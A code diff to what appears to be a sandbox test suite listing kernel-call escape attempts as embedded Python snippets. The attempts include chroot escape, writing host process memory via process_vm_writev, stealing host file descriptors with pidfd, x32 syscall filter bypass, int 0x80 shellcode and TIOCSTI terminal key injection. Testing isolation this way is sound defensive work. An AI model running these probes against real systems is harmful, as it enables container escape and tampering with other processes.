@@ -55,7 +55,8 @@ export const KERNEL_CALL_ATTACKS: readonly Attack[] = [
       for _ in range(40): attempt(os.chdir, "..")
       found.append(sc("chroot", b"."))
       found.append(read("." + T["folder"] + "/secret.txt"))
-      attempt(os.chdir, "/tmp")
+      attempt(os.fchdir, here)
+      attempt(os.rmdir, "/tmp/r-" + T["nonce"])
       return found`,
     `return [spawn("chroot", "/tmp"), spawn("pivot_root", ".", ".")]`,
   ),
@@ -201,12 +202,19 @@ export const KERNEL_CALL_ATTACKS: readonly Attack[] = [
       found = [sc("iopl", 3), sc("ioperm", 0x378, 1, 1), sc("modify_ldt", 1, bytes(16), 16)]
       return {"reached": "ports of the hardware"} if 0 in found[:2] and "Google" not in read("/proc/version") and os.path.exists("/dev/port") else found`,
   ),
-  attack("kernel-log-call", "The kernel's log, by system call", `
+  attack(
+    "kernel-log-call",
+    "The kernel's log, by system call",
+    `
       buffer = ctypes.create_string_buffer(4096)
       got = sc("syslog", 3, buffer, 4096)
       text = buffer.value.decode("latin1")
-      return {"reached": text[:200]} if isinstance(got, int) and "Command line" in text else [got, text[:100]]`),
-  attack("write-memory", "The memory of processes of the host, written", `
+      return {"reached": text[:200]} if isinstance(got, int) and "Command line" in text else [got, text[:100]]`,
+  ),
+  attack(
+    "write-memory",
+    "The memory of processes of the host, written",
+    `
       data = ctypes.create_string_buffer(b"overwritten")
       local = (ctypes.c_size_t * 2)(ctypes.addressof(data), 8)
       found = []
@@ -214,8 +222,12 @@ export const KERNEL_CALL_ATTACKS: readonly Attack[] = [
           for address in (0x400000, 0x10000, 0x555555554000):
               remote = (ctypes.c_size_t * 2)(address, 8)
               found.append(sc("process_vm_writev", pid, local, 1, remote, 1, 0))
-      return {"reached": "memory of the host"} if any(isinstance(each, int) and each > 0 for each in found) else found[:3]`),
-  attack("descriptor-theft", "Open files of processes of the host", `
+      return {"reached": "memory of the host"} if any(isinstance(each, int) and each > 0 for each in found) else found[:3]`,
+  ),
+  attack(
+    "descriptor-theft",
+    "Open files of processes of the host",
+    `
       found = []
       for pid in (T["canaryPid"], T["hostPid"], os.getppid(), 1):
           pidfd = sc("pidfd_open", pid, 0)
@@ -225,11 +237,19 @@ export const KERNEL_CALL_ATTACKS: readonly Attack[] = [
               if isinstance(fd, int): found.append([pid, number])
       mine = {os.getpid(), os.getppid(), 1}
       stolen = [each for each in found if each[0] in (T["canaryPid"], T["hostPid"]) and each[0] not in mine]
-      return {"reached": stolen} if stolen else found`),
-  attack("other-architecture", "System calls of other architectures, which a filter by number does not know", `
+      return {"reached": stolen} if stolen else found`,
+  ),
+  attack(
+    "other-architecture",
+    "System calls of other architectures, which a filter by number does not know",
+    `
       found = [sc(0x40000000 | 165, T["nonce"].encode(), b"/tmp", b"tmpfs", 0, None), sc(0x40000000 | 272, 0x10000000), sc(0x40000000 | 101, 16, T["canaryPid"], 0, 0)]
-      return {"reached": "calls of x32"} if 0 in found[:2] else found`),
-  attack("compat-calls", "Calls of 32-bit programs by interrupt", `
+      return {"reached": "calls of x32"} if 0 in found[:2] else found`,
+  ),
+  attack(
+    "compat-calls",
+    "Calls of 32-bit programs by interrupt",
+    `
       import mmap
       if platform.machine() != "x86_64": return "none here"
       child = os.fork()
@@ -238,8 +258,12 @@ export const KERNEL_CALL_ATTACKS: readonly Attack[] = [
           page.write(bytes([0x53, 0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0x5b, 0xc3]))
           run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
           os._exit(77 if run() == os.getpid() else 1)
-      return "ran" if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 77 else "refused"`),
-  attack("terminal-input", "Keys that the host's terminal takes for typed (TIOCSTI, TIOCLINUX)", `
+      return "ran" if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 77 else "refused"`,
+  ),
+  attack(
+    "terminal-input",
+    "Keys that the host's terminal takes for typed (TIOCSTI, TIOCLINUX)",
+    `
       import fcntl, termios
       found = []
       for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/tty0", "/proc/self/fd/0", "/proc/self/fd/2"):
@@ -248,19 +272,30 @@ export const KERNEL_CALL_ATTACKS: readonly Attack[] = [
           if attempt(fcntl.ioctl, fd, termios.TIOCSTI, b"x") in (0, b"x"): found.append(path)
           if attempt(fcntl.ioctl, fd, 0x541c, b"\\x02") in (0, b"\\x02"): found.append(path)
       return {"reached": found} if found else "refused"`,
-    `const found = ["/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/tty0"].filter((path) => attempt(() => { sys.fs.closeSync(sys.fs.openSync(path, sys.fs.constants.O_RDWR | sys.fs.constants.O_NOCTTY | sys.fs.constants.O_NONBLOCK)); return "open"; }) === "open"); return found.length > 0 ? { reached: found } : "refused"`),
-  attack("odd-calls", "Calls that few programs make", `
+    `const found = ["/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/tty0"].filter((path) => attempt(() => { sys.fs.closeSync(sys.fs.openSync(path, sys.fs.constants.O_RDWR | sys.fs.constants.O_NOCTTY | sys.fs.constants.O_NONBLOCK)); return "open"; }) === "open"); return found.length > 0 ? { reached: found } : "refused"`,
+  ),
+  attack(
+    "odd-calls",
+    "Calls that few programs make",
+    `
       return [sc("memfd_secret", 0), sc("fanotify_init", 0, 0), sc("lookup_dcookie", 0, ctypes.create_string_buffer(64), 64), sc("nfsservctl", 0, None, None),
         sc("personality", 0x0040000), sc("mq_open", b"/" + T["nonce"].encode(), 0o102, 0o666, None), sc("semget", 1, 1, 0o1666), sc("msgget", 1, 0o1666),
-        sc("kcmp", os.getpid(), T["canaryPid"], 0, 0, 0), sc("landlock_create_ruleset", None, 0, 1), sc("sched_setattr", 0, bytes(48), 0)]`),
-  attack("fuzz", "Every number there is, with empty arguments", `
-      skip = {0, 1, 15, 22, 23, 34, 35, 56, 57, 58, 59, 60, 61, 62, 63, 72, 73, 101, 109, 112, 127, 128, 129, 130, 200, 202, 219, 230, 231, 232, 234, 247, 270, 271, 281, 297, 322, 424, 435, 436, 441, 449, 454, 455, 456}
+        sc("kcmp", os.getpid(), T["canaryPid"], 0, 0, 0), sc("landlock_create_ruleset", None, 0, 1), sc("sched_setattr", 0, bytes(48), 0)]`,
+  ),
+  attack(
+    "fuzz",
+    "Every number there is, with empty arguments",
+    `
+      skip = {0, 1, 15, 162, 306, 22, 23, 34, 35, 56, 57, 58, 59, 60, 61, 62, 63, 72, 73, 101, 109, 112, 127, 128, 129, 130, 200, 202, 219, 230, 231, 232, 234, 247, 270, 271, 281, 297, 322, 424, 435, 436, 441, 449, 454, 455, 456}
       if platform.machine() != "x86_64": return "none here"
-      if os.fork() == 0:
-          signal.alarm(1)
+      child = os.fork()
+      if child == 0:
           for number in range(700):
               if number not in skip: sc(number, 0, 0, 0, 0, 0, 0)
           os._exit(0)
-      os.wait()
-      return "survived"`),
+      end = time.monotonic() + 1
+      while time.monotonic() < end and os.waitpid(child, os.WNOHANG)[0] == 0: time.sleep(0.01)
+      attempt(os.kill, child, 9)
+      return "survived"`,
+  ),
 ];
